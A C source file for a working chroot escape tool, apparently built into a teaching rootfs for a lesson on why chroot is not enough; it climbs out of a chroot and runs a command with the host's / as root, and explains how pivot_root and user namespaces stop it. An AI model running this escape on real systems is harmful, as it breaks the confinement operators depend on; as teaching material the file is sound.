/*
 * chroot-escape: the classic way out of a chroot, for the lesson "Why chroot is not enough".
 * It is copied into the built-in rootfs as /usr/local/bin/chroot-escape.
 *
 * chroot() changes two things only: where a path that starts with "/" begins, and where ".."
 * stops climbing. It does not move the working directory, and ".." stops only AT the root,
 * never above it. So root (CAP_SYS_CHROOT) inside a chroot can:
 *   1. make a directory and chroot into it, keeping its working directory outside (above) it;
 *   2. climb with chdir(".."): the new root is below, so the climb never meets it and goes
 *      on up to the top of the mount namespace, which in a chroot is the host's /;
 *   3. chroot(".") there, and run a command with the host's / as its /.
 * A container started with pivot_root in its own mount namespace (the helper's default) has
 * its rootfs as the top of that namespace, and the host's old root was detached: the climb
 * ends where it began, and there is nothing outside to reach.
 * The climb also needs search permission on each host directory above the rootfs: in a user
 * namespace whose root is an ordinary user outside, a root-only directory on the way stops it.
 *
 * Usage: chroot-escape [CMD ARG...]      (CMD defaults to: ls /)
 * Exit:  CMD's status when it escaped; 1 when it did not reach the host's / (it says why);
 *        2 when a step failed.
 * Messages go to stderr, so CMD's output on stdout stays clean.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define STILL_INSIDE 1
#define FAILED 2
/* Deeper than any real tree: the climb stops as soon as ".." is "." anyway. */
#define MAX_LEVELS 4096
/* The count of the initial user namespace's uid_map line "0 0 4294967295". */
#define ALL_IDS 4294967295UL

static const char PROG[] = "chroot-escape";

static int same_file(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Reports STEP's errno and exits: a failed step is named, never silent. */
static void fail(const char *step, const char *detail) __attribute__((noreturn));
static void fail(const char *step, const char *detail)
{
    fprintf(stderr, "%s: %s %s: %s\n", PROG, step, detail, strerror(errno));
    exit(FAILED);
}

/* Who this process is on the host, from /proc/self/uid_map ("inside outside count" lines). */
struct host_identity {
    int known;
    int initial_namespace; /* "0 0 4294967295": no user namespace, root's capabilities are the host's */
    uid_t uid;             /* the effective uid here */
    unsigned long host_uid;
};

static struct host_identity read_host_identity(void)
{
    struct host_identity id = { .uid = geteuid() };
    FILE *f = fopen("/proc/self/uid_map", "re");
    if (!f)
        return id;
    unsigned long inside, outside, count;
    while (fscanf(f, "%lu %lu %lu", &inside, &outside, &count) == 3) {
        if (id.uid >= inside && id.uid - inside < count) {
            id.known = 1;
            id.initial_namespace = inside == 0 && outside == 0 && count == ALL_IDS;
            id.host_uid = outside + (id.uid - inside);
            break;
        }
    }
    fclose(f);
    return id;
}

static void say_host_identity(const struct host_identity *id)
{
    if (!id->known)
        return;
    if (id->initial_namespace)
        fprintf(stderr, "%s: no user namespace: uid %u here is the host's root, with every capability"
                " the container kept.\n", PROG, id->uid);
    else if (id->host_uid == 0)
        fprintf(stderr, "%s: uid %u here is uid 0 on the host through a user namespace: it owns what root"
                " owns there, but holds no capability on the host.\n", PROG, id->uid);
    else
        fprintf(stderr, "%s: uid %u here is uid %lu on the host (a user namespace maps it): it may do there"
                " only what that user may do.\n", PROG, id->uid, id->host_uid);
}

int main(int argc, char **argv)
{
    char *default_cmd[] = { "ls", "/", NULL };
    char **cmd = argc > 1 ? argv + 1 : default_cmd;
    if (argc > 1 && (!strcmp(argv[1], "-h") || !strcmp(argv[1], "--help"))) {
        printf("Usage: %s [CMD ARG...]\n"
               "Tries the classic chroot escape, then runs CMD (default: ls /) with the host's / as its /.\n",
               PROG);
        return 0;
    }

    /* Read now: once the root moves, the container's /proc is out of reach. */
    struct host_identity id = read_host_identity();
    struct stat root_before;
    if (stat("/", &root_before) < 0)
        fail("stat", "/");
    /* The working directory must be outside the directory we chroot into: stand at the old /. */
    if (chdir("/") < 0)
        fail("chdir", "/");

    /* 1. A fresh directory to chroot into (any directory below / would do). */
    char new_root[] = "/tmp/chroot-escape-XXXXXX";
    if (!mkdtemp(new_root))
        fail("mkdir", new_root);
    if (chroot(new_root) < 0) {
        int err = errno;
        rmdir(new_root);
        errno = err;
        if (err == EPERM) {
            fprintf(stderr, "%s: cannot try: chroot needs CAP_SYS_CHROOT (root in the container), and this"
                    " process (uid %u) lacks it: %s\n", PROG, getuid(), strerror(err));
            return FAILED;
        }
        fail("chroot", new_root);
    }
    /* The root we now have is below the working directory, which still is the old /: remove the
     * directory through a path relative to it (the root stays valid while it is our root). */
    if (rmdir(new_root + 1) < 0)
        fprintf(stderr, "%s: could not remove %s: %s\n", PROG, new_root, strerror(errno));

    /* 2. Climb until ".." is the directory itself: the top of this mount namespace. */
    int levels = 0;
    for (;; levels++) {
        struct stat here, parent;
        if (stat(".", &here) < 0)
            fail("stat", ".");
        if (stat("..", &parent) < 0)
            fail("stat", "..");
        if (same_file(&here, &parent))
            break;
        if (levels == MAX_LEVELS) {
            errno = ELOOP;
            fail("climb", "..");
        }
        if (chdir("..") < 0) {
            if (errno != EACCES)
                fail("chdir", "..");
            /* The climb walks host directories with the host's permissions, as whoever this
             * process is out there: a directory only root may enter (the helper's 0700 store)
             * stops a user namespace's root that is an ordinary user outside. */
            fprintf(stderr, "%s: stopped %d levels above the container's /: the host directory above may not"
                    " be entered (%s). Outside, this process holds no capability over it: the host's file"
                    " permissions apply to it as to the user it is there.\n", PROG, levels, strerror(EACCES));
            say_host_identity(&id);
            return STILL_INSIDE;
        }
    }

    /* 3. Make where the climb stopped our root. */
    if (chroot(".") < 0)
        fail("chroot", ".");
    if (chdir("/") < 0)
        fail("chdir", "/");
    struct stat root_after;
    if (stat("/", &root_after) < 0)
        fail("stat", "/");

    if (same_file(&root_before, &root_after)) {
        fprintf(stderr, "%s: still inside: '..' of this / is / itself, so this / is the top of its mount"
                " namespace: the container was started with pivot_root, which made its rootfs the top, and"
                " the host's old root is gone (detached). There is nothing above to climb to.\n", PROG);
        return STILL_INSIDE;
    }
    fprintf(stderr, "%s: escaped: climbed %d levels above the container's /; this process's / is now the"
            " host's / (it is still in the container's namespaces).\n", PROG, levels);
    if (!id.known) /* the container had no /proc: the host's answers now */
        id = read_host_identity();
    say_host_identity(&id);
    fflush(stderr);
    execvp(cmd[0], cmd);
    fail("execvp", cmd[0]);
}
